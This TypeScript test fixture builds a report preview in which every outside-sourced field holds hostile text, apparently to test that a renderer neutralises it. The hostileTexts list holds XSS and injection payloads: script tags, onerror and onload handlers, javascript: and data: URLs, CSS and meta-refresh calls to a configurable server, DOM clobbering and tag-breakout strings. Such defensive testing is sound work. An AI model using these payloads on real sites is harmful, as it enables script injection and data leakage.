import { digestOf } from '../../src/model/digest.ts';
import type { PlanPreview } from '../../src/report/preview/plan-preview.ts';
import { anArticle, aQuestion, planPreview, previewed } from './plan-preview.ts';

/** What a post could try on whoever opens a page with it; `server` is where it would call. */
export function hostileTexts(server: string): readonly string[] {
  const run = `window.ran=1;fetch('${server}/ran')`;
  return [
    `<script>${run}</script>`,
    `<script src="${server}/script.js"></script>`,
    `<img src=x onerror="${run}">`,
    `<img src="${server}/image.png" onerror="${run}">`,
    `![an image](${server}/markdown.png)`,
    `![][one]\n\n[one]: ${server}/reference.png`,
    `<svg onload="${run}"><image href="${server}/svg.png"/></svg>`,
    `<math><mtext><style><img src=x onerror="${run}"></style></mtext></math>`,
    `<style>body{background:url(${server}/style.png)} @import "${server}/import.css";</style>`,
    `<p style="background:url(${server}/attribute.png)">styled</p>`,
    `<link rel="stylesheet" href="${server}/link.css"><link rel="prefetch" href="${server}/prefetch">`,
    `<meta http-equiv="refresh" content="0;url=${server}/refresh">`,
    `<base href="${server}/base/">`,
    `<form action="${server}/form"><button autofocus onfocus="${run}">x</button></form>`,
    `<iframe src="${server}/frame"></iframe><object data="${server}/object"></object><embed src="${server}/embed">`,
    `<video src="${server}/video" autoplay></video><audio src="${server}/audio" autoplay></audio>`,
    `<a href="javascript:${run}">one</a> <a href="JaVaScRiPt:${run}">two</a> <a href="data:text/html,<script>${run}</script>">three</a> [four](javascript:${run}) <a href="vbscript:x">five</a> <a href="file:///etc/passwd">six</a>`,
    `<a href="${server}/ping" ping="${server}/ping" target="_self" rel="opener">a link</a>`,
    `<details open ontoggle="${run}"><summary>x</summary>y</details>`,
    `</title></style></script></textarea></pre></code></div></section></article></main><script>${run}</script>`,
    `--><script>${run}</script><!--`,
    `]]><![CDATA[<script>${run}</script>]]>`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
    `"><img src=x onerror="${run}">`,
    `'><img src=x onerror='${run}'>`,
    `<input type=image src="${server}/input.png"><template><img src="${server}/t.png"></template>`,
    `<td background="${server}/background.png"><table background="${server}/table.png"><tr><td>x</td></tr></table>`,
    `<a id="steps" name="body" href="#approval">clobber</a><img name="querySelector">`,
    `<blockquote class="approval copied"><p class="action create">fake</p></blockquote>`,
    `<img src="data:image/svg+xml,<svg onload='${run}'/>"> <img srcset="${server}/set.png 1x">`,
    `<https://user@host.example/${'x'.repeat(600)}> and ${'y'.repeat(600)}`,
    `\`\`\`"><script>${run}</script>\n${'z'.repeat(900)}\n\`\`\``,
    `| a | b |\n| - | - |\n| ${'w'.repeat(300)} | <img src=x onerror="${run}"> |`,
    '<ul><li>'.repeat(45) + 'deep',
    `${'<ul><li>'.repeat(2000)}deeper`,
    `\u202Eevil\u202C \u200B\u0000 \u{1F600}`,
  ];
}

/** A plan in which every text that comes from outside is hostile. */
export function hostilePreview(server: string): PlanPreview {
  const texts = hostileTexts(server);
  const all = texts.join('\n\n');
  const one = texts.join(' ').replaceAll('\n', ' ').slice(0, 900);
  const digest = digestOf({});
  const step = { source: one, url: `${server}/">${one}`, reason: 'deleted' as const };
  const named = { id: 7, name: one };
  const article = {
    ...anArticle,
    title: one,
    tags: texts.map((text) => text.slice(0, 60)),
    permissions: { editableBy: 'specific', users: [7], groups: [7] } as const,
  };
  return planPreview(
    [
      ...texts.map((body) => previewed({ ...article, title: body.slice(0, 200), body }, step)),
      previewed(
        { ...aQuestion, title: one, body: all, answer: all },
        {
          ...step,
          action: 'overwrite',
          before: { ...aQuestion, title: one, body: `${all}\n\nmore`, answer: 'once' },
          overwrites: { by: named, at: 0, owner: named },
          pictures: [{ path: one, size: 5, digest, url: `${server}/picture.png` }],
          links: [{ source: one, url: `javascript:${one}`, else: one, was: one }],
        },
        {
          [`${server}/markdown.png`]: { picture: digest, path: one, size: 5 },
          [`${server}/ping`]: { step: one },
        },
      ),
    ],
    {
      report: {
        destination: { tier: 'business', site: `${server}/">`, team: one, api: 'v3' },
        account: named,
        people: { users: [named], groups: [named] },
        held: [
          {
            source: one,
            url: `javascript:${one}`,
            reason: 'conflict',
            message: one,
            remedy: one,
            conflicts: [{ field: one, ours: all, theirs: one }],
          },
        ],
        edited: [{ source: one, url: `data:text/html,${one}` }],
        orphaned: [{ source: one, url: one, unread: null }],
        tags: [
          {
            tag: one,
            state: 'replaced',
            replacedBy: [one],
            sources: [one],
            expertCount: 1,
            experts: { users: [named], groups: [] },
          },
        ],
        findings: [one, 'another'].map((source) => ({
          rule: one,
          severity: 'error',
          source,
          provenance: { kind: 'file', path: one },
          place: { file: one, line: 3, column: null },
          message: one,
          remedy: one,
        })),
      },
    },
  );
}
